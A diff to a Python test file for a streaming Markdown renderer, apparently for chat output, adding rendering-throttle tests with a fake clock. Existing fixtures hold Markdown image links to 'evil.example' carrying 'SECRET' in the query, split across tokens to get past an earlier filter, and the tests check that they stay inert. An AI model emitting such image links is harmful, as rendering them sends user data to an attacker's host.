@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import importlib.util
 import sys
+from collections.abc import Callable
+from itertools import count
 from pathlib import Path
 from types import ModuleType
 
@@ -77,11 +79,17 @@ def test_count(page: ModuleType) -> None:
     ]
 
 
+def ticks(step: float, per_call: int = 1) -> Callable[[], float]:
+    """A clock that advances ``step`` every ``per_call`` readings."""
+    readings = count()
+    return lambda: (next(readings) // per_call) * step
+
+
 def test_a_stream_is_rendered_whole_after_each_token(page: ModuleType) -> None:
     # The old filter's bypass: "\\" and "![...](...)" in different tokens.
     tokens = ["See", " \\", "![x](https://evil.example/?q=SECRET)", " done."]
 
-    shown = list(page.rendered_stream(iter(tokens)))
+    shown = list(page.rendered_stream(iter(tokens), clock=ticks(1.0, per_call=2)))
 
     assert shown == [
         "See▌",
@@ -94,11 +102,32 @@ def test_a_stream_is_rendered_whole_after_each_token(page: ModuleType) -> None:
 def test_a_split_image_is_never_live_while_streaming(page: ModuleType) -> None:
     tokens = ["Wow", "!", "[x](https://evil.example/a.png)", " [r]", "\n\n[r]: http://e.example/"]
 
-    shown = list(page.rendered_stream(iter(tokens)))
+    shown = list(page.rendered_stream(iter(tokens), clock=ticks(1.0, per_call=2)))
 
     assert shown[2] == "Wowx \\(image not loaded\\: `https://evil.example/a.png`\\)▌"
     for markdown in shown:
         assert_inert(markdown)
+
+
+def test_a_fast_stream_is_rendered_at_most_every_interval(page: ModuleType) -> None:
+    # Tokens every 30 ms, rendering free: a rendering every 0.1 s, each of the whole text.
+    tokens = [f"w{n} " for n in range(10)]
+    # The clock is read when a token comes, and again after each rendering.
+    times = iter([0, 0, 0.03, 0.06, 0.09, 0.12, 0.12, 0.15, 0.18, 0.21, 0.24, 0.24, 0.27])
+
+    shown = list(page.rendered_stream(iter(tokens), clock=lambda: next(times)))
+
+    assert shown == ["w0 ▌", "w0 w1 w2 w3 w4 ▌", "w0 w1 w2 w3 w4 w5 w6 w7 w8 ▌"]
+
+
+def test_a_slow_rendering_is_made_less_often(page: ModuleType) -> None:
+    # A rendering that takes 0.05 s is repeated only after 5 x 0.05 s.
+    times = iter([0.0, 0.05, 0.1, 0.2, 0.24, 0.25, 0.3, 0.6, 0.65, 0.7])
+    tokens = ["a ", "b ", "c ", "d ", "e ", "f ", "g "]
+
+    shown = list(page.rendered_stream(iter(tokens), clock=lambda: next(times)))
+
+    assert shown == ["a ▌", "a b c d e ▌", "a b c d e f ▌"]
 
 
 def test_passage_html_never_holds_a_blank_line(page: ModuleType) -> None:
